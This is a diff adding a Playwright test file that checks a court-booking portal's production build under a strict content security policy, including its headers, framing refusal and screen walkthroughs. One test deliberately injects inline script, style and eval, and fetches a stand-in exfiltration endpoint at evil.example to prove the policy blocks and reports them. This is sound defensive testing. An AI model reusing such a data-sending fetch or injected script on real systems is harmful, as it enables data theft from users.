@@ -1,0 +1,374 @@
+/**
+ * The production build under its content security policy (issue 13; scripts/csp.ts): these tests
+ * run in the `csp` project only, against `vite build && vite preview` with the simulator mounted.
+ * Like every e2e test, each fails on any `securitypolicyviolation` (e2e/fixtures.ts), so walking
+ * the portal's screens here is the proof that the build needs no inline script or style, no eval
+ * and no address beyond its two back ends. One test provokes violations on purpose, to show that
+ * the policy refuses them and that the listener hears them.
+ *
+ * The simulator's clock stands at Saturday 2026-11-21 09:30 (Vilnius).
+ */
+import { spawn } from 'node:child_process';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { readdir, readFile } from 'node:fs/promises';
+import { join, resolve } from 'node:path';
+import type { Page } from '@playwright/test';
+import { contentSecurityPolicy } from '../scripts/csp';
+import { CSP_BASE_URL, CSP_DIST, CSP_PORT } from '../playwright.config';
+import { accounts, expect, signIn, test as base, userBar } from './fixtures';
+
+const root = resolve(import.meta.dirname, '..');
+
+/**
+ * `vite preview` (what `npm run preview` runs) serving the csp-build project's build, for this
+ * file's worker: started here rather than as a global webServer, so that only a run of the csp
+ * project pays for it. The simulator answers on the same origin, as on the dev server.
+ */
+const test = base.extend<object, { previewServer: string }>({
+  previewServer: [
+    // eslint-disable-next-line no-empty-pattern -- Playwright reads a fixture's dependencies from its first parameter
+    async ({}, use) => {
+      const vite = resolve(root, 'node_modules/vite/bin/vite.js');
+      const args = [vite, 'preview', '--outDir', CSP_DIST, '--port', String(CSP_PORT)];
+      const server = spawn(process.execPath, [...args, '--strictPort'], { cwd: root });
+      let output = '';
+      server.stdout.on('data', (chunk: Buffer) => (output += chunk.toString()));
+      server.stderr.on('data', (chunk: Buffer) => (output += chunk.toString()));
+      const exited = new Promise<never>((_, reject) =>
+        server.once('exit', (code) =>
+          reject(new Error(`vite preview exited (${code}) before it answered:\n${output}`)),
+        ),
+      );
+      const ready = (async () => {
+        while (server.exitCode === null) {
+          const answer = await fetch(`${CSP_BASE_URL}/wp-json/data/v1/get_savitarna_date/`).then(
+            (r) => r.ok,
+            () => false,
+          );
+          if (answer) return;
+          await new Promise((r) => setTimeout(r, 100));
+        }
+      })();
+      try {
+        await Promise.race([ready, exited]);
+        await use(CSP_BASE_URL);
+      } finally {
+        server.removeAllListeners('exit');
+        server.kill();
+      }
+    },
+    { scope: 'worker', auto: true, timeout: 60_000 },
+  ],
+});
+
+const NOW = '2026-11-21T09:30';
+const COURT = 'Teniso aikštelė 1';
+
+test.beforeEach(async ({ sim }) => {
+  await sim.scenario({ now: NOW });
+});
+
+const title = (page: Page, name: string) =>
+  page.getByRole('heading', { level: 1, name, exact: true });
+const dialog = (page: Page, name: string) => page.getByRole('dialog', { name, exact: true });
+const cell = (page: Page, time: string, status = 'Laisva') =>
+  page.getByRole('button', { name: `${COURT}, ${time}: ${status}`, exact: true });
+
+/** Opens a free cell's dialog and picks its first length (half an hour). */
+async function pick(page: Page, time: string) {
+  await cell(page, time).click();
+  await dialog(page, COURT)
+    .getByRole('button', { name: new RegExp(`^Pasirinkti ${time}–`) })
+    .first()
+    .click();
+}
+
+test.describe('the headers', () => {
+  test('the page, a deep link and the scripts come with the policy, nosniff and the referrer policy', async ({
+    page,
+  }) => {
+    const home = await page.goto('/');
+    expect(home).not.toBeNull();
+    await expect(title(page, 'Kortų užimtumas')).toBeVisible();
+    const policy = home?.headers()['content-security-policy'] ?? '';
+    // what the issue asks for, spelled out here rather than taken from the code under test
+    const directives = policy.split(';').map((d) => d.trim());
+    expect(directives).toEqual(
+      expect.arrayContaining([
+        "default-src 'none'",
+        "script-src 'self'",
+        "style-src 'self'",
+        "connect-src 'self'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+        "object-src 'none'",
+      ]),
+    );
+    expect(policy).not.toMatch(/unsafe-|\*|https?:/);
+    // and exactly the one the README tells a venue to send for a same-origin content server
+    expect(policy).toBe(contentSecurityPolicy({}));
+
+    const deepLink = await page.request.get('/uzsakymai');
+    const script = await page.request.get(
+      (await page.locator('script[src]').first().getAttribute('src')) ?? '',
+    );
+    for (const response of [home, deepLink, script]) {
+      const headers = response?.headers() ?? {};
+      expect(headers['content-security-policy']).toBe(policy);
+      expect(headers['x-content-type-options']).toBe('nosniff');
+      expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+    }
+  });
+
+  test('no other origin can show the portal in a frame', async ({ page }) => {
+    // a page of another origin, with no policy of its own, frames the portal's login page and,
+    // for comparison, one of the simulator's answers (which go out without the portal's headers).
+    // Served from this machine: Chromium keeps a public page from framing a local server anyway.
+    const dateAnswer = `${CSP_BASE_URL}/wp-json/data/v1/get_savitarna_date/`;
+    const framer = createServer((_req, res) => {
+      res.setHeader('Content-Type', 'text/html');
+      res.end(
+        `<iframe title="portal" src="${CSP_BASE_URL}/prisijungti"></iframe>` +
+          `<iframe title="answer" src="${dateAnswer}"></iframe>`,
+      );
+    });
+    await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve));
+    try {
+      const { port } = framer.address() as AddressInfo;
+      await page.goto(`http://127.0.0.1:${port}/`);
+    } finally {
+      framer.close();
+    }
+    await expect(page.frameLocator('iframe[title="answer"]').locator('body')).toContainText(
+      '"data"',
+    );
+    // the portal's page is refused: the browser shows its own error page in the frame instead
+    await expect.poll(() => page.frames().map((f) => f.url())).toContain(dateAnswer);
+    await expect
+      .poll(() => page.frames().some((f) => f.url().startsWith('chrome-error:')))
+      .toBe(true);
+    await expect(
+      page.frameLocator('iframe[title="portal"]').getByRole('heading', { name: 'Prisijungimas' }),
+    ).toHaveCount(0);
+  });
+});
+
+test('the policy refuses inline script and style, eval and other addresses, and each is reported', async ({
+  page,
+  cspViolations,
+}) => {
+  await page.goto('/');
+  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
+  const outcome = await page.evaluate(async () => {
+    const w = window as unknown as { __ran?: number };
+    const script = document.createElement('script');
+    script.textContent = 'window.__ran = 1';
+    document.body.append(script);
+
+    const style = document.createElement('style');
+    style.textContent = 'body { outline: 7px solid red }';
+    document.head.append(style);
+
+    const marked = document.createElement('p');
+    marked.setAttribute('style', 'color: rgb(1, 2, 3)');
+    document.body.append(marked);
+
+    // a task of the page's own: the evaluation Playwright starts is let through by the browser
+    await new Promise((resolve) => setTimeout(resolve));
+    let evaluated = true;
+    try {
+      eval('1');
+    } catch {
+      evaluated = false;
+    }
+    const fetched = await fetch('https://evil.example/collect').then(
+      () => true,
+      () => false,
+    );
+    return {
+      ran: w.__ran ?? 0,
+      outlined: getComputedStyle(document.body).outlineWidth === '7px',
+      coloured: getComputedStyle(marked).color === 'rgb(1, 2, 3)',
+      evaluated,
+      fetched,
+    };
+  });
+  expect(outcome).toEqual({
+    ran: 0,
+    outlined: false,
+    coloured: false,
+    evaluated: false,
+    fetched: false,
+  });
+  await expect
+    .poll(() => cspViolations.map((v) => v.directive).sort())
+    .toEqual(['connect-src', 'script-src', 'script-src-elem', 'style-src-attr', 'style-src-elem']);
+  // provoked on purpose: heard, so not a failure of this test
+  cspViolations.splice(0);
+});
+
+test('a violation the test does not take back fails it (e2e/fixtures.ts)', async ({
+  page,
+  cspViolations,
+}) => {
+  // expected to fail, and only at the fixture's check after the body: should the fixture stop
+  // failing tests on a violation, this one passes, which Playwright counts as a failure
+  test.fail();
+  await page.goto('/');
+  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
+  await page.evaluate(() => {
+    const style = document.createElement('style');
+    style.textContent = 'body { outline: 7px solid red }';
+    document.head.append(style);
+  });
+  await expect.poll(() => cspViolations.map((v) => v.directive)).toEqual(['style-src-elem']);
+});
+
+test('a visitor: the board, venues, a slot, the login dialog and pages, contact, English, not found', async ({
+  page,
+}) => {
+  await page.goto('/');
+  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
+  const venues = page.getByRole('tablist', { name: 'Sporto vietos' });
+  await venues.getByRole('tab', { name: 'Teniso arena' }).click();
+  await expect(page).toHaveURL('/rezervacija/2');
+  await expect(page.getByRole('table', { name: /^Teniso arena, / })).toBeVisible();
+  await venues.getByRole('tab', { name: 'Sporto centras Žalgiris' }).click();
+  await expect(cell(page, '10:00')).toBeVisible();
+
+  // a slot's dialog, then the login dialog a visitor meets after picking a length
+  await pick(page, '10:00');
+  const login = dialog(page, 'Prisijungimas');
+  await expect(login).toBeVisible();
+  await login.getByRole('button', { name: 'Prisijungti' }).click();
+  await expect(login.getByText('Šis laukas privalomas').first()).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(login).toHaveCount(0);
+
+  await userBar(page).getByRole('button', { name: 'Registruotis' }).click();
+  await expect(dialog(page, 'Registracija')).toBeVisible();
+  await page.keyboard.press('Escape');
+
+  await page.getByRole('banner').getByRole('button', { name: 'Susisiekite', exact: true }).click();
+  const contact = dialog(page, 'Susisiekite su mumis');
+  await expect(contact).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(contact).toHaveCount(0);
+
+  await page.goto('/prisijungti');
+  await expect(title(page, 'Prisijungimas')).toBeVisible();
+  await page.goto('/priminti-slaptazodi');
+  await expect(title(page, 'Slaptažodžio priminimas')).toBeVisible();
+  await page.goto('/nera-tokio-puslapio');
+  await expect(title(page, 'Puslapis nerastas')).toBeVisible();
+  await page.getByRole('link', { name: 'Į pradžią' }).click();
+
+  // the English catalogue and react-aria's English strings load on demand
+  await page.getByRole('group', { name: 'Kalba' }).getByRole('button', { name: 'English' }).click();
+  await expect(title(page, 'Court availability')).toBeVisible();
+  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
+  await page.reload();
+  await expect(title(page, 'Court availability')).toBeVisible();
+});
+
+test('a customer: add, the cart, pay by bank, the result page, orders, invoices, balance, settings, logout', async ({
+  page,
+}) => {
+  await signIn(page, accounts.demo.email, accounts.demo.password);
+  await page.goto('/');
+  await pick(page, '10:00');
+  await dialog(page, 'Laikas įdėtas į krepšelį')
+    .getByRole('button', { name: 'Eiti į krepšelį' })
+    .click();
+  const cart = dialog(page, 'Krepšelis');
+  await expect(cart.getByRole('timer')).toBeVisible();
+  await cart.getByRole('button', { name: 'Rezervuoti' }).click();
+  const pay = dialog(page, 'Apmokėjimas');
+  await pay.getByRole('button', { name: 'Apmokėti 7,00 €' }).click();
+
+  // the simulator's bank (another site in real life, so not under the portal's policy)
+  await expect(page).toHaveURL(/\/__sim\/bank\?/);
+  await page.getByRole('button', { name: 'Patvirtinti' }).click();
+  await expect(page).toHaveURL('/mokejimas/sekminga-rezervacija');
+  await expect(title(page, 'Apmokėjimas įvyko')).toBeVisible();
+
+  await page.getByRole('link', { name: 'Į užsakymus' }).click();
+  await expect(title(page, 'Mano užsakymai')).toBeVisible();
+  await expect(page.getByRole('main')).toContainText(`${COURT} nuoma`);
+
+  await page.goto('/saskaitos');
+  await expect(title(page, 'Mano sąskaitos')).toBeVisible();
+  await expect(page.getByTestId('range-list')).toBeVisible();
+
+  await page.goto('/balansas');
+  await expect(title(page, 'Balansas ir papildymas')).toBeVisible();
+  await page.getByRole('button', { name: 'Papildyti', exact: true }).click();
+  await expect(dialog(page, 'Papildyti balansą 10,00 €?')).toBeVisible();
+  await page.keyboard.press('Escape');
+
+  await page.goto('/nustatymai');
+  await expect(title(page, 'Nustatymai')).toBeVisible();
+  await page.getByRole('tab', { name: 'Sutikimai' }).click();
+  await expect(page).toHaveURL('/nustatymai/sutikimai');
+  await expect(page.getByRole('switch', { name: /Sutikimas su taisyklėmis/ })).toBeChecked();
+
+  await userBar(page).getByRole('button', { name: 'Atsijungti' }).click();
+  await expect(userBar(page).getByRole('link', { name: 'Prisijungti' })).toBeVisible();
+});
+
+test('the terms: the consent modal and the terms viewer (terms carrying a script and an image)', async ({
+  page,
+}) => {
+  // the simulator's terms hide a <script> and an <img onerror>: the sanitiser drops both
+  await signIn(page, accounts.fresh.email, accounts.fresh.password);
+  await page.goto('/');
+  const consent = dialog(page, 'Taisyklės ir sutikimai');
+  await expect(consent).toBeVisible();
+  await consent.getByRole('button', { name: 'Skaityti taisykles' }).click();
+  const viewer = dialog(page, 'Taisyklės');
+  await expect(viewer.getByText(/Rezervuodami aikštelę/)).toBeVisible();
+  await page.keyboard.press('Escape');
+  await expect(viewer).toHaveCount(0);
+  await consent.getByRole('button', { name: 'Patvirtinti' }).click();
+  await expect(consent).toHaveCount(0);
+});
+
+test('the build has no inspector: ?inspect opens nothing, no built script mentions it', async ({
+  page,
+  context,
+}) => {
+  const opened: string[] = [];
+  context.on('page', (p) => opened.push(p.url()));
+  await page.goto('/?inspect');
+  await expect(title(page, 'Kortų užimtumas')).toBeVisible();
+  expect(opened).toEqual([]);
+
+  const assets = join(root, CSP_DIST, 'assets');
+  const scripts = (await readdir(assets)).filter((name) => name.endsWith('.js'));
+  expect(scripts.length).toBeGreaterThan(0);
+  for (const name of scripts) {
+    const code = await readFile(join(assets, name), 'utf8');
+    expect(code, name).not.toMatch(/stately\.ai|@statelyai|createBrowserInspector/);
+  }
+});
+
+test('terms with a <style> and style attributes (as pasted from a word processor): shown, and nothing refused', async ({
+  page,
+  sim,
+}) => {
+  // the sanitiser drops these; the policy must never be asked about them either
+  await sim.scenario({
+    termsHtml:
+      '<style>p { color: red }</style>' +
+      '<p style="color: red">Rezervuodami aikštelę sutinkate su taisyklėmis.</p>',
+  });
+  await signIn(page, accounts.fresh.email, accounts.fresh.password);
+  await page.goto('/');
+  await dialog(page, 'Taisyklės ir sutikimai')
+    .getByRole('button', { name: 'Skaityti taisykles' })
+    .click();
+  const viewer = dialog(page, 'Taisyklės');
+  await expect(viewer.getByText(/Rezervuodami aikštelę/)).toBeVisible();
+  await expect(viewer.locator('[style], style')).toHaveCount(0);
+});
